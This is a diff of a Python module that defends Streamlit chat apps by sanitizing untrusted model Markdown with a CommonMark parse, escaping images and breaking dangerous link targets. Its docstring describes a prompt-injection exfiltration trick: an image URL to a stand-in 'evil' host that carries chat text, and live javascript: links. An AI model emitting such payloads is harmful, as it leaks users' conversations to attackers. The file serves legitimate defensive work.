@@ -1,36 +1,61 @@
 """Make untrusted model Markdown safe to pass to ``st.markdown``.
 
 Model output is attacker-controlled (prompt injection). Streamlit escapes raw HTML, but it
-renders Markdown images — the browser fetches ``![x](https://evil/?q=<chat text>)`` as soon as
-the answer is drawn — and it passes link targets through unchanged, so
-``[x](javascript:...)`` is live. :func:`safe_markdown` turns images into links (nothing is
-fetched until clicked), drops ``data:`` images and ``javascript:``/``vbscript:``/``data:``
-link targets, and rewrites ``\\(...\\)`` / ``\\[...\\]`` maths into the ``$`` forms Streamlit
-renders. Fenced code, ``$$`` blocks, code spans and ``$`` maths are left as they are.
+renders Markdown images (the browser fetches ``![x](https://evil/?q=<chat text>)`` as soon as
+the answer is drawn) and it passes link targets through unchanged, so ``[x](javascript:...)``
+is live. :func:`safe_markdown` works in two steps.
 
-How it stays safe without a full CommonMark parser: text is left verbatim only where
-Streamlit's parser (micromark with GFM, maths and directives) certainly reads code or maths,
-because a wrong guess there would hide an image. A line scanner finds fenced blocks; an
-inline scanner follows CommonMark's precedence (escapes, code and maths spans, autolinks,
-link destinations, brackets) within each paragraph. Wherever a construct could be read two
-ways — a fence after a list marker or ``>``, a fence inside an HTML block, a backtick an
-autolink may swallow, a link our grammar rejects — the rest of the document (block level) or
-of the paragraph group (inline level) is *guarded* instead: every image opener is escaped and
-dangerous link targets are broken, inside code too. Doubt costs looks, never safety.
+**Safety** (:func:`enforce`) is an allow-list decided on a real CommonMark parse
+(markdown-it-py, with GFM tables and raw HTML as Streamlit's frontend reads them): every image
+opener ``![`` is escaped and every dangerous link target broken, everywhere except inside code
+that the parse *confirms*: fenced code blocks and code spans. Escaping an image inside maths,
+HTML or anything else is harmless (its text stays readable); leaving one the frontend reads as
+an image is the bug, so confirmation is withheld wherever Streamlit's frontend (react-markdown
+with remark-gfm, remark-math and remark-directive) might read the text otherwise:
+
+* from the first line, outside confirmed fences, that starts (after any ``>`` or list markers)
+  with ``$$`` (a maths block), ``::`` (a directive), ``[^`` (a footnote, a container) or holds a
+  ``|`` (a table): the extensions' block structure may differ from here on, so nothing after it
+  is confirmed;
+* in a paragraph that holds ``$`` (maths spans), ``://`` or ``www.`` (GFM autolink literals),
+  ``:`` before a letter (a text directive's label or attributes), ``][`` (a reference label,
+  which micromark reads raw while markdown-it skips code spans in it), ``[^`` or an HTML
+  comment, declaration or processing instruction (whose rules changed between CommonMark
+  versions): any of these may swallow a backtick, so its code spans are not confirmed.
+
+Indented code blocks, maths and HTML are never confirmed. The text is first dedented and
+left-stripped as ``st.markdown`` does, so what is parsed is what the frontend parses.
+
+**Looks** (:func:`_rewrite`, before the safety step) keep the text pleasant where the safety
+step would only escape: images become links (nothing is fetched until clicked), ``data:``
+images keep their alt text, ``javascript:``/``vbscript:``/``data:`` links keep only their text,
+and ``\\(...\\)`` / ``\\[...\\]`` maths becomes the ``$`` forms Streamlit renders. It predicts
+where the frontend reads code and maths with a line scanner and an inline scanner that follow
+CommonMark's precedence, and where a construct could be read two ways it escapes everything in
+that stretch (it *guards* it). Its predictions only decide looks: whatever it leaves,
+:func:`enforce` escapes unless the parse confirms code.
 
 Cosmetic effects to know about: indented (4-space) code blocks are treated as text, so an
-image or ``\\(`` written inside one is rewritten; guarded text shows ``\\![`` inside code;
-``\\[...\\]`` over several lines is converted only when the delimiters sit on their own lines;
-edits that would glue characters into new syntax are separated by a zero-width space.
+image or ``\\(`` written inside one is rewritten; code that is not confirmed (after a ``$$`` or
+table line, in a paragraph with ``$``) shows ``\\![`` where it holds ``![``; ``\\[...\\]`` over
+several lines is converted only when the delimiters sit on their own lines; edits that would
+glue characters into new syntax are separated by a zero-width space.
 """
 
 from __future__ import annotations
 
 import html
 import re
+import textwrap
 from bisect import bisect_right
 from collections.abc import Iterator
 from dataclasses import dataclass
+from functools import lru_cache
+from typing import Any
+
+from markdown_it import MarkdownIt
+from markdown_it.rules_inline import backtick
+from markdown_it.rules_inline.state_inline import StateInline
 
 _MARKDOWN_OPENERS = re.compile(r"([\\`*_\[\]<>$~])")
 
@@ -130,10 +155,38 @@ def safe_markdown(text: str) -> str:
 
     Images become links whose text shows the alt text (``[🖼 alt](url)``); ``data:`` images
     keep only their alt text; links to ``javascript:``, ``vbscript:`` or ``data:`` keep only
-    their text; ``\\(x\\)`` becomes ``$x$`` and ``\\[x\\]`` becomes ``$$x$$``. Line endings
-    become ``\\n``. Fast enough to run on every screen update: linear regex work.
+    their text; ``\\(x\\)`` becomes ``$x$`` and ``\\[x\\]`` becomes ``$$x$$``; any image opener
+    left outside confirmed code is escaped (:func:`enforce`). Line endings become ``\\n``; the
+    text is dedented and left-stripped as ``st.markdown`` would. Texts up to
+    :data:`CACHED_UP_TO` characters are cached: a rerun draws the same stored answers again.
     """
-    text = text.replace("\r\n", "\n").replace("\r", "\n")
+    if len(text) > CACHED_UP_TO:
+        return _made_safe(text)
+    return _made_safe_cached(text)
+
+
+CACHED_UP_TO = 16_384
+"""The longest text :func:`safe_markdown` caches (characters): 1,024 of them, in and out, are 32 MB of ASCII."""
+
+
+def _made_safe(text: str) -> str:
+    return enforce(_rewrite(_as_streamlit_reads(text)))
+
+
+_made_safe_cached = lru_cache(maxsize=1024)(_made_safe)
+
+
+def _as_streamlit_reads(text: str) -> str:
+    """``text`` as ``st.markdown`` hands it to the frontend (``textwrap.dedent``, then ``strip``).
+
+    Only the start is stripped: callers append a cursor or a kept space, and the frontend's own
+    dedent and strip leave the result alone once its first line starts at the margin.
+    """
+    return textwrap.dedent(text.replace("\r\n", "\n").replace("\r", "\n")).lstrip()
+
+
+def _rewrite(text: str) -> str:
+    """The looks: images as links, dangerous links as text, ``\\(`` maths as ``$`` (see the module doc)."""
     definitions = _definitions(text)
     parts = []
     for kind, part in _blocks(text):
@@ -146,6 +199,125 @@ def safe_markdown(text: str) -> str:
             part = _guard(part)
         parts.append(part)
     return "".join(parts)
+
+
+# Safety: an allow-list over a real parse
+
+# Lines that may open a block of one of the frontend's extensions (maths, directive, footnote,
+# table): after container markers, or anywhere for a table's pipe.
+_EXTENSION_LINE = re.compile(r"(?:[ \t>*+-]|\d{1,9}[.)])*+(?:\$\$|::|\[\^)|[^\n]*\|")
+# What, in a paragraph, may swallow a backtick in the frontend but not in markdown-it.
+_SWALLOWS_BACKTICKS = re.compile(r"\$|://|www\.|:[A-Za-z]|\]\[|\[\^|<[!?]", re.IGNORECASE)
+_BACKTICKS = re.compile(r"`+")
+
+
+def _record_code_span(state: StateInline, silent: bool) -> bool:
+    """markdown-it's code span rule, noting where each span it makes lies in its paragraph."""
+    start = state.pos
+    found = backtick(state, silent)
+    if found and not silent:
+        state.env.setdefault("code_spans", {}).setdefault(id(state.src), (state.src, []))[1].append((start, state.pos))
+    return found
+
+
+_PARSER = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
+_PARSER.inline.ruler.at("backticks", _record_code_span)
+
+
+def enforce(text: str) -> str:
+    """Escape every ``![`` and break every dangerous link target outside code the parse confirms.
+
+    The safety step of :func:`safe_markdown`: whatever came before, what leaves here fetches nothing.
+    """
+    text = _as_streamlit_reads(text)
+    lines = LINE.findall(text)
+    starts = [0]
+    for line in lines:
+        starts.append(starts[-1] + len(line))
+    pieces: list[str] = []
+    pos = 0
+    for lo, hi in _confirmed_code(text, lines, starts):
+        if lo < pos:
+            continue
+        pieces += [_guard(text[pos:lo]), text[lo:hi]]
+        pos = hi
+    pieces.append(_guard(text[pos:]))
+    return "".join(pieces)
+
+
+def _confirmed_code(text: str, lines: list[str], starts: list[int]) -> list[tuple[int, int]]:
+    """Sorted ``(start, end)`` spans of ``text``: code for markdown-it, and surely for the frontend."""
+    env: dict[str, Any] = {}
+    tokens = _PARSER.parse(text, env)
+    fences = [(token.map[0], token.map[1]) for token in tokens if token.type == "fence" and token.map]
+    limit = _first_extension_line(lines, fences)
+    code_spans = env.get("code_spans", {})
+    spans: list[tuple[int, int]] = []
+    for token in tokens:
+        if token.map is None or token.map[1] > limit:
+            continue
+        if token.type == "fence":
+            spans.append((starts[token.map[0] + 1], starts[token.map[1]]))
+        elif token.type == "inline" and not _SWALLOWS_BACKTICKS.search(token.content):
+            source, found = code_spans.get(id(token.content), (None, []))
+            if source is not token.content:
+                continue
+            spans += _in_source(text, token.content, found, starts, token.map[0])
+    return sorted(spans)
+
+
+def _first_extension_line(lines: list[str], fences: list[tuple[int, int]]) -> int:
+    """The first line, outside the fences met before it, where an extension's block may start (or the end)."""
+    fence_ends = dict(fences)
+    number = 0
+    while number < len(lines):
+        if number in fence_ends:
+            number = fence_ends[number]
+        elif _EXTENSION_LINE.match(lines[number]):
+            return number
+        else:
+            number += 1
+    return len(lines)
+
+
+def _in_source(
+    text: str, content: str, spans: list[tuple[int, int]], starts: list[int], first: int
+) -> list[tuple[int, int]]:
+    """Code spans found at ``spans`` of a paragraph's ``content``, as spans of the source ``text``.
+
+    markdown-it's ``content`` holds the paragraph's lines (from line ``first`` on) without their
+    container markers and indentation (and a heading's closing hashes): each content line,
+    trimmed, is found in its source line. A span whose ends are not the same backticks in the
+    source is dropped.
+    """
+    content_starts: list[int] = []  # per line, where its first kept character is in content and in text
+    source_starts: list[int] = []
+    offset = 0
+    for number, part in enumerate(content.split("\n"), start=first):
+        if number + 1 >= len(starts):
+            return []
+        source = text[starts[number] : starts[number + 1]].rstrip("\n")
+        core = part.strip(" \t")
+        trimmed = source.rstrip(" \t")
+        index = len(trimmed) - len(core) if trimmed.endswith(core) else source.find(core)
+        if index < 0:
+            return []
+        content_starts.append(offset + len(part) - len(part.lstrip(" \t")))
+        source_starts.append(starts[number] + index)
+        offset += len(part) + 1
+
+    def to_source(position: int) -> int:
+        line = max(bisect_right(content_starts, position) - 1, 0)
+        return source_starts[line] + position - content_starts[line]
+
+    found = []
+    for start, end in spans:
+        ticks = _BACKTICKS.match(content, start)
+        run = "`" * (ticks.end() - start) if ticks else "?"
+        lo, hi = to_source(start), to_source(end - 1) + 1
+        if text.startswith(run, lo) and text.startswith(run, hi - len(run)):
+            found.append((lo, hi))
+    return found
 
 
 # Blocks
